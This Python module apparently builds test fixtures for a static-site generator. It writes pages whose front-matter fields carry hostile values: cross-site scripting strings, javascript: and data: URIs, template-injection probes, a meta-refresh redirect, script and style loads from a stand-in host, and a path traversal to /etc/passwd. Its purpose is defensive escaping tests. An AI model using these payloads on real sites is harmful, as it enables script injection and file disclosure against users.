"""Values that attack the readers of a page, and the fields of its front matter: one page for each pair."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

ELSEWHERE = "elsewhere.example"
"""A host that no page may ask for anything."""

PAYLOADS: Mapping[str, object] = {
    "double-quotes": 'x" onmouseover="alert(1)',
    "double-quotes-at-once": 'x" autofocus tabindex=0 onfocus=alert(1) x="',
    "single-quotes": "x' autofocus tabindex=0 onfocus='alert(1)",
    "sheet": f'x"><link rel=stylesheet href=//{ELSEWHERE}/x.css>',
    "title": "</title><script>alert(1)</script>",
    "elements": f"</textarea></style></script><script src=//{ELSEWHERE}/x.js></script>",
    "any-case": "jAvAsCrIpT:alert(1)",
    "white-space": " java\tscript\n:alert(1)",
    "references": "&#106;avascript&colon;alert(1)",
    "old-script": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "drawing": "<svg/onload=alert(1)>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture-elsewhere": f"<img src=//{ELSEWHERE}/x.png>",
    "style": f'1;background:url(//{ELSEWHERE}/x.png)" style="background:url(//{ELSEWHERE}/y.png)',
    "macro": "{{ 7 * 7 }} {% for %} {{ config }}",
    "refresh": f'0;url=//{ELSEWHERE}/" http-equiv="refresh',
    "string": '"];alert(1);//',
    "control": 'a\r\n\b\u2028"><script>alert(1)</script>',
    "folder-above": "../../../../../etc/passwd",
    "folder-above-windows": "..\\..\\x",
    "comment": "<!-- <base href=//elsewhere.example/>",
    "list": ['"><img src=x onerror=alert(1)>', ["<svg/onload=alert(1)>"]],
    "mapping": {'"><img src=x onerror=alert(1)>': "</title><script>alert(1)</script>"},
}
"""Values by name."""

FIELDS: Mapping[str, str] = {
    **{name: f"{name}: VALUE" for name in ("title", "description", "subtitle", "author", "status", "icon")},
    **{name: f"{name}: VALUE" for name in ("template", "hide", "search", "social", "comments", "own")},
    "tags": "tags: [VALUE, plain]",
    "hidden parts": "hide: [VALUE]",
    "boost": "search: {boost: VALUE}",
    "location": "template: redirect.html\nlocation: VALUE",
}
"""What a page without a type says in its front matter, with a place for a value."""

_TYPED = {"type": "explainer", "title": "Title", "description": "Words.", "authors": ["desk"]}
_DAYS = "published: 2024-05-06\nchecked: 2024-05-06\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A page with a hostile value in one field."""

    path: str
    """Below `docs`."""
    text: str


def pages() -> Iterator[Hostile]:
    """Yield a page for each pair of field and value, in a folder for each value; some of them have a type."""
    for payload, value in PAYLOADS.items():
        written = json.dumps(value)
        for number, line in enumerate(FIELDS.values()):
            front = line.replace("VALUE", written)
            yield Hostile(f"{payload}/{number}.md", f"---\n{front}\n---\n\n# Page\n\n## Part\n\nText.\n")
        for name in ("title", "description", "subtitle", "status"):
            fields = {**_TYPED, name: value}
            lines = "".join(f"{field}: {json.dumps(one)}\n" for field, one in fields.items())
            yield Hostile(f"{payload}/typed-{name}.md", f"---\n{lines}{_DAYS}---\n\n## In brief\n\nText.\n")
        if isinstance(value, str) and not set("/\r\n\b") & set(value):
            yield Hostile(f"{payload}/{value}.md", "Text.\n")
